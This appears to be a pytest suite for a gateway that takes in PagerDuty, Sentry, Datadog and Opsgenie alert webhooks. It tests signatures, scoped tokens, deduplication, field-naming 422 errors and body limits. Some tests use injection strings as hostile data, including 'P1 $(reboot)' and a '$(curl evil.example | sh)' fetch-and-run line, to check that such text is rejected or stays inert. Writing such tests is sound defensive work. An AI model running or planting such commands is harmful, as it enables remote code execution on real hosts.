"""PagerDuty, Sentry, Datadog and Opsgenie intake: signatures and tokens, the alerts their
payloads become, the answers to events that are not alerts, and the 4xx naming the field."""

from __future__ import annotations

import contextlib
import json
import logging
import os
import re
import sqlite3
from pathlib import Path
from typing import Any

import pytest

from remediate.alerts import Alert
from remediate.catalog import Catalog
from remediate.devstack.stack import GATEWAY_SECRET_NAMES, ensure_dev_secrets
from remediate.gateway.config import GatewayConfig
from remediate.gateway.credentials import parse_credentials
from remediate.runs.names import run_name
from tests.support.gateway import (
    DATADOG_TOKEN,
    OPSGENIE_TOKEN,
    PAGERDUTY_SECRET,
    SENTRY_SECRET,
    TOKEN,
    RunningGateway,
    bearer,
    config,
    pagerduty_headers,
    payload,
    running_gateway,
    sentry_headers,
)
from tests.support.processes import free_port

PAGERDUTY = "/v1/alerts/pagerduty"
SENTRY = "/v1/alerts/sentry"
DATADOG = "/v1/alerts/datadog"
OPSGENIE = "/v1/alerts/opsgenie"
CATALOG = Catalog.model_validate({"services": [{"name": "shop-api"}]})


@pytest.fixture
def unreachable_prefect() -> str:
    return f"http://127.0.0.1:{free_port()}/api"


def raw(body: Any) -> bytes:
    return json.dumps(body, separators=(",", ":")).encode()


async def stored(gw: RunningGateway) -> list[Alert]:
    """Every alert the outbox holds, in the order received, whatever its state."""
    with contextlib.closing(sqlite3.connect(gw.config.sqlite_path)) as db:
        rows = db.execute("SELECT alert FROM outbox ORDER BY seq").fetchall()
    return [Alert.model_validate_json(text) for (text,) in rows]


async def post_pagerduty(gw: RunningGateway, body: Any, *secrets: str, **headers: str) -> Any:
    data = raw(body)
    return await gw.client.post(
        PAGERDUTY, content=data, headers=pagerduty_headers(data, *secrets) | headers
    )


async def post_sentry(
    gw: RunningGateway, body: Any, resource: str, secret: str = SENTRY_SECRET
) -> Any:
    data = raw(body)
    return await gw.client.post(
        SENTRY, content=data, headers=sentry_headers(data, resource, secret)
    )


async def test_pagerduty_trigger_becomes_an_alert_keyed_by_incident(
    tmp_path: Path, unreachable_prefect: str
) -> None:
    body = payload("pagerduty_triggered.json")
    async with running_gateway(config(tmp_path, unreachable_prefect), CATALOG) as gw:
        first = await post_pagerduty(gw, body, **{"X-Webhook-Id": "d3a5b3c0-1e2f"})
        again = await post_pagerduty(gw, body, **{"X-Webhook-Id": "d3a5b3c0-1e2f"})
        assert (first.status_code, first.json()["accepted"]) == (202, 1)
        assert (again.status_code, again.json()["duplicates"]) == (202, 1)
        [alert] = await stored(gw)
    assert alert.source == "pagerduty"
    assert alert.fingerprint == "PGR0VU2"
    assert alert.id == "5ac64822-4adc-4fda-ade0-410becf0de4f"
    assert (alert.check_id, alert.service, alert.severity.value) == (
        "Checkout latency above 2 s",
        "shop-api",
        "critical",
    )
    assert alert.details["pagerduty"]["webhook_id"] == "d3a5b3c0-1e2f"
    assert alert.details["pagerduty"]["incident_url"].endswith("/incidents/PGR0VU2")
    assert run_name(alert) == "Checkout latency above 2 s · shop-api · 2026-11-27 14:11:09 UTC"


async def test_pagerduty_signatures_valid_rotated_wrong_stale_missing(
    tmp_path: Path, unreachable_prefect: str
) -> None:
    body = payload("pagerduty_triggered.json")
    retired = "pagerduty-retired-secret"
    cfg = config(tmp_path, unreachable_prefect, pagerduty_secrets=[PAGERDUTY_SECRET, "next-key"])
    async with running_gateway(cfg) as gw:
        # PagerDuty rotating its key: one v1= per key, only one of them ours
        assert (await post_pagerduty(gw, body, "unknown-key", PAGERDUTY_SECRET)).status_code == 202
        # our side rotating: the second configured secret is accepted too
        assert (await post_pagerduty(gw, body, "next-key")).status_code == 202
        for secrets in (("wrong",), (retired,), (SENTRY_SECRET,)):
            response = await post_pagerduty(gw, body, *secrets)
            assert response.status_code == 401
            assert response.json()["detail"] == "authentication failed"
        data = raw(body)
        digest = pagerduty_headers(data)["X-PagerDuty-Signature"].removeprefix("v1=")
        for header in ({}, {"X-PagerDuty-Signature": digest}, {"X-PagerDuty-Signature": "v1="}):
            response = await gw.client.post(PAGERDUTY, content=data, headers=header)
            assert response.status_code == 401
        tampered = data.replace(b"Checkout", b"Checkin")
        response = await gw.client.post(
            PAGERDUTY, content=tampered, headers=pagerduty_headers(data)
        )
        assert response.status_code == 401
        metrics = (await gw.client.get("/metrics")).text
    rejected = dict(re.findall(r'rejected_total\{reason="auth_(\w+)"\} (\d+)', metrics))
    assert rejected == {"bad_signature": "4", "missing_signature": "1", "malformed_signature": "2"}


async def test_pagerduty_resolve_acknowledge_and_other_events(
    tmp_path: Path, unreachable_prefect: str, caplog: pytest.LogCaptureFixture
) -> None:
    caplog.set_level(logging.INFO, "remediate.gateway")
    body = payload("pagerduty_triggered.json")
    event = body["event"]
    async with running_gateway(config(tmp_path, unreachable_prefect)) as gw:
        event |= {"id": "01DEN2", "event_type": "incident.acknowledged"}
        response = await post_pagerduty(gw, body)
        assert response.status_code == 200
        assert response.json()["ignored"].startswith("incident.acknowledged by Tenex Engineer")
        event |= {"id": "01DEN3", "event_type": "incident.priority_updated"}
        response = await post_pagerduty(gw, body)
        assert (response.status_code, response.json()["accepted"]) == (200, 0)
        ping = {
            "event": {
                "id": "01DEN5",
                "event_type": "pagey.ping",
                "resource_type": "pagey",
                "occurred_at": "2026-11-27T14:00:00.000Z",
                "agent": None,
                "client": None,
                "data": {"message": "Hello from your friend Pagey!", "type": "ping"},
            }
        }
        response = await post_pagerduty(gw, ping)
        assert (response.status_code, response.json()["accepted"]) == (200, 0)
        event |= {"id": "01DEN4", "event_type": "incident.resolved"}
        event |= {"occurred_at": "2026-11-27T14:40:00Z"}
        response = await post_pagerduty(gw, body)
        assert (response.status_code, response.json()["alerts"][0]["status"]) == (202, "resolved")
        [alert] = await stored(gw)
        metrics = (await gw.client.get("/metrics")).text
    assert alert.fingerprint == "PGR0VU2"
    assert alert.details["ends_at"] == "2026-11-27T14:40:00+00:00"
    assert 'remediate_gateway_acknowledged_total{format="pagerduty"} 1.0' in metrics
    [logged] = [r.getMessage() for r in caplog.records if "acknowledged" in r.getMessage()]
    assert logged == (
        "pagerduty: 'incident.acknowledged by Tenex Engineer: starts and resolves nothing;"
        " no run was started for this incident, nothing recorded'"
    )


async def test_pagerduty_malformed_answers_422_naming_the_field(
    tmp_path: Path, unreachable_prefect: str
) -> None:
    async with running_gateway(config(tmp_path, unreachable_prefect)) as gw:
        body = payload("pagerduty_triggered.json")
        del body["event"]["data"]["id"]
        response = await post_pagerduty(gw, body)
        assert response.status_code == 422
        assert response.json()["errors"][0]["field"] == "event.data.id"
        body = payload("pagerduty_triggered.json")
        body["event"]["data"]["id"] = "P1 $(reboot)"
        response = await post_pagerduty(gw, body)
        assert response.json()["errors"][0]["field"] == "event.data.id"
        body = payload("pagerduty_triggered.json")
        body["event"]["occurred_at"] = "yesterday"
        response = await post_pagerduty(gw, body)
        assert response.json()["errors"][0]["field"] == "event.occurred_at"
        response = await post_pagerduty(
            gw, payload("pagerduty_triggered.json"), **{"X-Webhook-Id": "a\tb"}
        )
        assert response.status_code == 422
        assert response.json()["errors"][0]["field"] == "X-Webhook-Id"
        assert (await gw.outbox())["pending"] == 0


@pytest.mark.parametrize("separators", [(",", ":"), (", ", ": ")], ids=["compact", "spaced"])
async def test_sentry_issue_alert_signed_over_the_raw_body(
    tmp_path: Path, unreachable_prefect: str, separators: tuple[str, str]
) -> None:
    data = json.dumps(payload("sentry_issue_alert.json"), separators=separators).encode()
    async with running_gateway(config(tmp_path, unreachable_prefect), CATALOG) as gw:
        headers = sentry_headers(data, "event_alert")
        response = await gw.client.post(SENTRY, content=data, headers=headers)
        assert (response.status_code, response.json()["accepted"]) == (202, 1)
        [alert] = await stored(gw)
        reserialised = json.dumps(json.loads(data), separators=(",", ":")).encode()
        if reserialised != data:
            response = await gw.client.post(SENTRY, content=reserialised, headers=headers)
            assert response.status_code == 401
    assert (alert.source, alert.fingerprint, alert.id) == (
        "sentry",
        "issue-1170820242",
        "e4874d664c3540c1a32eab185f12c5ab",
    )
    assert (alert.check_id, alert.service, alert.severity.value) == (
        "ZeroDivisionError: division by zero",
        "shop-api",
        "error",
    )
    assert alert.labels["environment"] == "production"
    assert alert.details["sentry"]["triggered_rule"] == "Checkout errors"


async def test_sentry_metric_alert_fires_and_resolves_one_incident(
    tmp_path: Path, unreachable_prefect: str
) -> None:
    critical = payload("sentry_metric_alert.json")
    resolved = json.loads(json.dumps(critical))
    resolved["action"] = "resolved"
    resolved["data"]["metric_alert"]["date_closed"] = "2026-11-27T14:30:00.000000Z"
    async with running_gateway(config(tmp_path, unreachable_prefect)) as gw:
        for body in (critical, resolved):
            assert (await post_sentry(gw, body, "metric_alert")).status_code == 202
        firing, closed = await stored(gw)
    assert firing.fingerprint == closed.fingerprint == "metric-53"
    assert (firing.status.value, closed.status.value) == ("firing", "resolved")
    assert (firing.check_id, firing.severity.value) == ("Too many errors", "critical")
    assert closed.details["ends_at"] == "2026-11-27T14:30:00+00:00"


async def test_sentry_resources_signatures_and_fields(
    tmp_path: Path, unreachable_prefect: str
) -> None:
    body = payload("sentry_issue_alert.json")
    async with running_gateway(config(tmp_path, unreachable_prefect)) as gw:
        installation = {"action": "created", "data": {"installation": {"uuid": "x"}}}
        response = await post_sentry(gw, installation, "installation")
        assert (response.status_code, response.json()["accepted"]) == (200, 0)
        for secret in ("wrong", PAGERDUTY_SECRET, TOKEN):
            assert (await post_sentry(gw, body, "event_alert", secret)).status_code == 401
        data = raw(body)
        headers = sentry_headers(data, "event_alert")
        del headers["Sentry-Hook-Resource"]
        response = await gw.client.post(SENTRY, content=data, headers=headers)
        assert response.status_code == 422
        assert response.json()["errors"][0]["field"] == "Sentry-Hook-Resource"
        broken = json.loads(json.dumps(body))
        broken["data"]["event"]["issue_id"] = ["1170820242"]
        response = await post_sentry(gw, broken, "event_alert")
        assert response.json()["errors"][0]["field"] == "data.event.issue_id"
        metric = payload("sentry_metric_alert.json")
        metric["action"] = "escalated"
        response = await post_sentry(gw, metric, "metric_alert")
        assert response.json()["errors"][0]["field"] == "action"
        issue = {
            "action": "resolved",
            "data": {
                "issue": {
                    "id": "1170820242",
                    "title": "ZeroDivisionError: division by zero",
                    "level": "error",
                    "status": "resolved",
                    "lastSeen": "2026-11-27T14:20:00Z",
                }
            },
        }
        response = await post_sentry(gw, issue, "issue")
        assert response.json()["alerts"][0] == response.json()["alerts"][0] | {
            "fingerprint": "issue-1170820242",
            "status": "resolved",
        }
        issue["action"] = "assigned"
        assert (await post_sentry(gw, issue, "issue")).status_code == 200


async def test_datadog_template_values_are_parsed_strictly(
    tmp_path: Path, unreachable_prefect: str
) -> None:
    body = payload("datadog.json")
    async with running_gateway(config(tmp_path, unreachable_prefect), CATALOG) as gw:
        response = await gw.client.post(DATADOG, json=body, headers=bearer(DATADOG_TOKEN))
        assert (response.status_code, response.json()["accepted"]) == (202, 1)
        [alert] = await stored(gw)
        problems = {
            "date": 1795788669000,
            "monitor_id": "98765432.0",
            "transition": "Exploded",
            "priority": "urgent",
            "cycle_key": "a b",
            "id": "",
        }
        for field, value in problems.items():
            response = await gw.client.post(
                DATADOG, json=body | {field: value}, headers=bearer(DATADOG_TOKEN)
            )
            assert response.status_code == 422, field
            assert response.json()["errors"][0]["field"] == field
        response = await gw.client.post(
            DATADOG, json=body | {"hostnme": "typo"}, headers=bearer(DATADOG_TOKEN)
        )
        assert response.json()["errors"][0]["field"] == "hostnme"
    assert (alert.source, alert.id, alert.fingerprint) == (
        "datadog",
        "7536431948137352917",
        "7536431948137352001",
    )
    assert (alert.check_id, alert.service, alert.severity.value) == (
        "Disk almost full",
        "shop-api",
        "error",
    )
    assert alert.labels["device"] == "/dev/sda1"
    assert alert.fired_at.isoformat() == "2026-11-27T14:11:09+00:00"


async def test_product_tokens_speak_for_their_product_only(
    tmp_path: Path, unreachable_prefect: str
) -> None:
    datadog, opsgenie = payload("datadog.json"), payload("opsgenie_create.json")
    async with running_gateway(config(tmp_path, unreachable_prefect)) as gw:
        for path, body, token in (
            (DATADOG, datadog, TOKEN),
            (DATADOG, datadog, OPSGENIE_TOKEN),
            (OPSGENIE, opsgenie, DATADOG_TOKEN),
        ):
            response = await gw.client.post(path, json=body, headers=bearer(token))
            assert response.status_code == 401, (path, token)
        generic = {"id": "x1", "check_id": "disk"}
        response = await gw.client.post(
            "/v1/alerts/generic", json=generic, headers=bearer(DATADOG_TOKEN)
        )
        assert response.status_code == 401
        response = await gw.client.post(DATADOG, json=datadog)
        assert response.status_code == 401
    scoped = parse_credentials(f"dd:{DATADOG_TOKEN}@datadog/db", "datadog-token")
    cfg = config(tmp_path / "scoped", unreachable_prefect, datadog_tokens=scoped)
    async with running_gateway(cfg, CATALOG) as gw:
        response = await gw.client.post(DATADOG, json=datadog, headers=bearer(DATADOG_TOKEN))
        assert response.status_code == 403
        assert response.json()["detail"] == "credential 'dd' may not speak for service 'shop-api'"


def test_a_product_credential_scoped_to_another_source_stops_the_gateway() -> None:
    env = {"REMEDIATE_DATADOG_TOKENS": "dd:t0k3n@generic"}
    with pytest.raises(ValueError, match="REMEDIATE_DATADOG_TOKENS: credential 'dd'"):
        GatewayConfig.from_env(env)
    config_ = GatewayConfig.from_env(
        {
            "REMEDIATE_PAGERDUTY_SECRETS": "a,b",
            "REMEDIATE_SENTRY_SECRETS": "s:c@sentry",
            "REMEDIATE_OPSGENIE_TOKENS": "o",
        }
    )
    assert [c.name for c in config_.pagerduty_secrets] == [
        "pagerduty-secret-1",
        "pagerduty-secret-2",
    ]
    assert config_.sentry_secrets[0].sources == ("sentry",)
    assert config_.opsgenie_tokens[0].name == "opsgenie-token-1"
    assert config_.has_source_credentials
    assert not GatewayConfig.from_env({"REMEDIATE_INGEST_TOKENS": "t"}).has_source_credentials


async def test_opsgenie_alias_is_the_dedupe_key(tmp_path: Path, unreachable_prefect: str) -> None:
    create = payload("opsgenie_create.json")
    close = json.loads(json.dumps(create)) | {"action": "Close"}
    acknowledge = json.loads(json.dumps(create)) | {"action": "Acknowledge"}
    async with running_gateway(config(tmp_path, unreachable_prefect), CATALOG) as gw:
        for body, status in ((create, 202), (create, 202), (acknowledge, 200), (close, 202)):
            response = await gw.client.post(OPSGENIE, json=body, headers=bearer(OPSGENIE_TOKEN))
            assert response.status_code == status
        firing, resolved = await stored(gw)
        broken = json.loads(json.dumps(create))
        del broken["alert"]["alias"]
        response = await gw.client.post(OPSGENIE, json=broken, headers=bearer(OPSGENIE_TOKEN))
        assert response.status_code == 422
        assert response.json()["errors"][0]["field"] == "alert.alias"
    assert firing.fingerprint == resolved.fingerprint
    assert re.fullmatch(r"alias-[0-9a-f]{32}", firing.fingerprint)
    assert (firing.check_id, firing.service, firing.severity.value) == (
        "Queue backlog above 10 000 on orders",
        "shop-api",
        "error",
    )
    assert resolved.details["ends_at"] == "2026-11-27T14:11:09.106000+00:00"


async def test_hostile_text_is_inert_and_bounded(tmp_path: Path, unreachable_prefect: str) -> None:
    body = payload("datadog.json")
    body["title"] = "[Triggered] $(curl evil.example | sh) `id` @channel " + "x" * 900
    body["status"] = "\u202e" + "y" * 9000
    async with running_gateway(config(tmp_path, unreachable_prefect)) as gw:
        response = await gw.client.post(DATADOG, json=body, headers=bearer(DATADOG_TOKEN))
        assert response.status_code == 202
        [alert] = await stored(gw)
    assert alert.check_id.startswith("$(curl evil.example | sh)")
    assert len(alert.check_id) == 200
    assert len(run_name(alert)) < 120


def test_make_up_generates_every_product_secret(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    for name in list(os.environ):
        if name.startswith("REMEDIATE_") or name == "PREFECT_API_AUTH_STRING":
            monkeypatch.delenv(name)
    path = tmp_path / "secrets.env"
    path.write_text("REMEDIATE_INGEST_TOKENS=kept\n", encoding="utf-8")
    values = ensure_dev_secrets(path)
    expected = {
        "REMEDIATE_PAGERDUTY_SECRETS",
        "REMEDIATE_SENTRY_SECRETS",
        "REMEDIATE_DATADOG_TOKENS",
        "REMEDIATE_OPSGENIE_TOKENS",
    }
    assert expected <= set(GATEWAY_SECRET_NAMES)
    assert values["REMEDIATE_INGEST_TOKENS"] == "kept"
    assert all(re.fullmatch(r"[0-9a-f]{64}", values[name]) for name in expected)
    assert len({values[name] for name in expected}) == 4
    assert path.stat().st_mode & 0o777 == 0o600
    assert ensure_dev_secrets(path) == values
    GatewayConfig.from_env(values)


async def test_limits_apply_and_a_token_is_checked_before_the_body(
    tmp_path: Path, unreachable_prefect: str
) -> None:
    cfg = config(tmp_path, unreachable_prefect, max_body_bytes=4096, max_alert_bytes=2048)

    async def endless() -> Any:
        while True:
            yield b"x" * 1024

    async with running_gateway(cfg) as gw:
        response = await gw.client.post(DATADOG, content=endless(), headers=bearer("nope"))
        assert response.status_code == 401
        big = payload("sentry_issue_alert.json")
        big["data"]["event"]["culprit"] = "c" * 5000
        response = await post_sentry(gw, big, "event_alert")
        assert response.status_code == 413
        assert "4096" in response.json()["detail"]
        datadog = payload("datadog.json") | {"status": "s" * 3000}
        response = await gw.client.post(DATADOG, json=datadog, headers=bearer(DATADOG_TOKEN))
        assert response.status_code == 413
        assert "max_alert_bytes" in response.json()["detail"]
        assert (await gw.outbox())["pending"] == 0
